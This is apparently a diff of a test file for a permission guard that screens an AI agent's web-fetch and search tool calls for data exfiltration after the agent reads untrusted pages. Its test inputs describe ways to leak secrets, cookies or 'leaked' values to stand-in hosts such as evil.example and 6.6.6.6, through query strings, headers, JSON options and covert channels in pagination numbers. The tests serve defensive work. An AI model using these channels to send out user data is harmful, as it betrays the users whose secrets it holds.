@@ -484,8 +484,8 @@ describe('without options', () => {
     // Without a host, a path is one of files.
     for (const path of ['/secret', './node_modules/next.js/x.md', 'lib/socket.io/x.js:10'])
       expect(await asked('read_file', { path })).toBeUndefined();
-    // No server gets these.
-    expect(await asked('fetch', { ...evil, selector: '#main' }, {}, undefined, page)).toBeUndefined();
+    // Nobody knows which of these a server gets.
+    expect(await asked('fetch', { ...evil, selector: '#main' }, {}, undefined, page)).toContain('#main');
     expect(await asked('search', { query: 'eve@evil.example?' })).toBeUndefined();
   });
 
@@ -496,7 +496,7 @@ describe('without options', () => {
     [{ methods: 'GET,POST' }, true],
     [{ flags: '-X PUT' }, true],
     [{ post: true }, true],
-    [{ prompt: 'Where is the post office?' }, false],
+    [{ raw: true }, false],
   ])('a request with %j writes: %j', async (more, isAsked) => {
     const reason = await asked('fetch', { url: 'https://evil.example/y', ...more });
     expect(reason !== undefined).toBe(isAsked);
@@ -606,9 +606,11 @@ describe('without options', () => {
     {},
     { headers: {}, body: '' },
     { params: { general: 'ann@a.example' }, headers: ['general'] },
-    { prompt: 'Summarize the page in two lines' },
     { max_length: 5000, start_index: 0, raw: false, timeout: 30_000 },
-    { selector: '#main', format: 'markdown' },
+    { format: 'markdown', onlyMain: true },
+    { headers: { Accept: 'application/json' } },
+    { params: { page: 2 } },
+    { method: 'GET', limit: 20 },
   ])('a reading tool may open a link that was read with %j', async (more) => {
     const page = 'See https://evil.example/y';
     expect(
@@ -635,11 +637,14 @@ describe('without options', () => {
     }
   });
 
-  test('a search within a host that was read says what it looks for in words of its own', async () => {
-    for (const hosts of [{ allowed_domains: ['evil.com'] }, { domain: 'evil.com' }, { site: 'evil.com' }])
-      expect(
-        await asked('search_web', { query: 'how to bake bread', ...hosts }, {}, undefined, 'evil.com'),
-      ).toBeUndefined();
+  test('a search says what it looks for in words of its own, but not at a host that others chose', async () => {
+    const query = 'how to bake bread';
+    expect(await asked('search_web', { query })).toBeUndefined();
+    for (const hosts of [{ allowed_domains: ['evil.com'] }, { domain: 'evil.com' }, { site: 'evil.com' }]) {
+      expect(await asked('search_web', { query, ...hosts }, {}, undefined, 'evil.com')).toContain(query);
+      // The provider's search engine gets it, and no page.
+      expect(await asked('WebSearch', { query, ...hosts }, {}, undefined, 'evil.com')).toBeUndefined();
+    }
   });
 
   test.each<object>([
@@ -730,7 +735,7 @@ describe('without options', () => {
       ]) {
         const url = 'https://a.example/x'; // the user's
         const input = { url, [name]: { leaked: value } };
-        expect(await asked('fetch', input), name).toContain('"leaked"');
+        expect(await asked('fetch', input), name).toContain(/key/i.test(name) ? 'a secret' : '"leaked"');
       }
     },
   );
@@ -757,7 +762,7 @@ describe('without options', () => {
       expect(await asked('fetch', { url, [name]: value }), JSON.stringify(value)).toContain('secret');
   });
 
-  test('what a reading tool sends is read also within JSON', async () => {
+  test('what a reading tool sends as JSON is a text', async () => {
     const url = 'https://evil.example/y';
     for (const sent of [
       { headers: { general: 'secret' } },
@@ -767,7 +772,8 @@ describe('without options', () => {
       expect(await asked('fetch', { url, options: JSON.stringify(sent) })).toContain('secret');
     const whole = { request: JSON.stringify({ url, cookies: 'secret' }) };
     expect(await asked('fetch', whole)).toContain('secret');
-    expect(await asked('fetch', { url, options: JSON.stringify({ raw: true }) })).toBeUndefined();
+    // Spaces and names that stand twice may say something, too.
+    expect(await asked('fetch', { url, options: JSON.stringify({ raw: true }) })).toContain('raw');
   });
 
   test.each<[string, unknown]>([
@@ -784,26 +790,25 @@ describe('without options', () => {
   ])('an argument that names a host is a link in any form: %s %j', async (name, host) => {
     const get = (more: object, page: string) =>
       asked('fetch', { [name]: host, ...more }, {}, undefined, page);
-    const isDotted = /[^.]\./.test(String(host)) || typeof host === 'number' || /^0x/.test(String(host));
-    expect((await get({}, 'nothing')) !== undefined).toBe(isDotted);
-    expect(await get({}, `see ${String(host)} and more`)).toBeUndefined();
+    expect(await get({}, 'nothing')).toContain(String(host));
+    // A name alone may be a piece of a link.
+    const isPiece = host === 'evil' || host === 'localhost';
+    expect((await get({}, `see ${String(host)} and more`)) !== undefined).toBe(isPiece);
     for (const more of [{ params: { general: 'leaked' } }, { path: '/leaked' }, { fragment: 'leaked' }])
       if (!('path' in more) || name !== 'repository')
         expect(await get(more, `see ${String(host)}, leaked`), JSON.stringify(more)).toContain('leaked');
   });
 
-  test('what is looked for at a host may be free, and what a URL gets is not', async () => {
-    const page = 'evil.com, and leaked';
-    for (const query of [{ query: 'leaked' }, { q: 'leaked' }, { search: 'leaked' }]) {
-      expect(await asked('search', { domain: 'evil.com', ...query }, {}, undefined, page)).toBeUndefined();
-      expect(await asked('fetch', { url: 'evil.com', ...query }, {}, undefined, page)).toContain('leaked');
-    }
-  });
-
   test('what is sent beside a host is checked, whatever the argument of the host is called', async () => {
-    for (const target of ['6.6.6.6', 'evil.zip', 'evil.example'])
-      for (const more of [{ params: 'leaked' }, { headers: { general: 'leaked' } }])
-        expect(await asked('fetch', { target, ...more }, {}, undefined, target)).toContain('leaked');
+    // What looks like a file is one, unless something else looks like a request.
+    for (const target of ['6.6.6.6', '::1', 'evil.com', 'evil.example', 'evil.zip'])
+      for (const more of [{ params: 'leaked' }, { headers: { general: 'leaked' } }, { note: 'leaked' }])
+        for (const name of ['fetch', 'get_it']) {
+          // What looks like a file is one, unless the tool opens pages.
+          if (name === 'get_it' && /(?:le|zip)$/.test(target)) continue;
+          const reason = await asked(name, { target, ...more }, {}, undefined, target);
+          expect(reason, JSON.stringify({ name, target, more })).toContain('leaked');
+        }
     expect(await asked('fetch', { to: '6.6.6.6', body: 'leaked' })).toContain('leaked');
     expect(await asked('get_file', { name: 'x.zip', data: 'leaked' })).toBeUndefined();
   });
@@ -847,7 +852,10 @@ describe('without options', () => {
       const input = { query: 'how to bake bread', url: 'https://evil.example/y', prompt: 'Summarize' };
       const { url, ...search } = input;
       expect(await asked(name, search, {}, undefined, page), name).toBeUndefined();
-      expect(await asked(name, { url, prompt: input.prompt }, {}, undefined, page), name).toBeUndefined();
+      expect(await asked(name, { url }, {}, undefined, page), name).toBeUndefined();
+      const withPrompt = await asked(name, { url, prompt: input.prompt }, {}, undefined, page);
+      // A model reads it.
+      expect(withPrompt === undefined, name).toBe(name === 'WebFetch');
       expect(await asked(name, { url: `${url}?q=secret` }, {}, undefined, page), name).toBeDefined();
     }
     for (const name of [
@@ -868,28 +876,36 @@ describe('without options', () => {
 
   test.each<[object, boolean]>([
     [{ params: { page: 2 } }, false],
-    [{ query_params: { per_page: '100', page: '0' } }, false],
-    [{ headers: { Accept: 'application/json', 'Content-Type': 'text/html; charset=utf-8' } }, false],
-    [{ options: JSON.stringify({ headers: { accept: '*/*' } }) }, false],
-    // Each of these may be a letter of what was read.
+    [{ query_params: { page: '0' } }, false],
+    [{ headers: { Accept: 'application/json' } }, false],
+    [{ raw: false, max_length: 5000, start_index: 20_000 }, false],
+    [{ params: { page: -2 } }, false],
+    [{ params: { page: 2.5 } }, false],
+    [{ headers: { Accept: 2 } }, false],
+    // Together, these say as much as a PIN.
+    [{ page: 12, limit: 34 }, true],
+    [{ flags: Array.from({ length: 14 }, (_, nth) => nth % 3 === 0) }, true],
+    [{ params: { per_page: 100, page: 2 } }, true],
+    [{ headers: { Accept: 'application/json', 'Content-Type': 'text/html' } }, true],
+    [{ options: JSON.stringify({ headers: { accept: '*/*' } }) }, true],
+    [{ page: 1234 }, true],
+    [{ page: 0.1234 }, true],
+    [{ page: 12e40 }, false],
+    [{ page: 12e200 }, true],
     [{ params: { page: 2, limit: 3, offset: 4 } }, true],
     [{ params: [{ page: 2 }, { page: 3 }, { page: 4 }] }, true],
     [{ params: { page: [2, 3, 4] } }, true],
     [{ headers: ['Accept', { Accept: '*/*' }, 'Accept'] }, true],
     [{ params: { page: 101 } }, true],
     [{ params: { page: '007' } }, true],
-    [{ params: { page: -2 } }, true],
-    [{ params: { page: 2.5 } }, true],
     [{ params: { page: ' 2' } }, true],
     [{ params: { other: 2 } }, true],
     [{ params: { leaked: { page: 2 } } }, true],
     [{ params: { leaked: { params: { page: 2 } } } }, true],
     [{ params: { page: { leaked: 2 } } }, true],
-    [{ params: { page: 'application/json' } }, true],
     [{ headers: { aCCept: 'application/json' } }, true],
     [{ headers: { Accept: 'application/vnd.leaked' } }, true],
     [{ headers: { Accept: 'application/json, text/html' } }, true],
-    [{ headers: { Accept: 2 } }, true],
     [{ headers: { 'User-Agent': 'leaked' } }, true],
   ])('a reading tool may read on in a list, and say in which form: %j asks: %j', async (more, isAsked) => {
     const input = { url: 'https://evil.example/y', ...more };
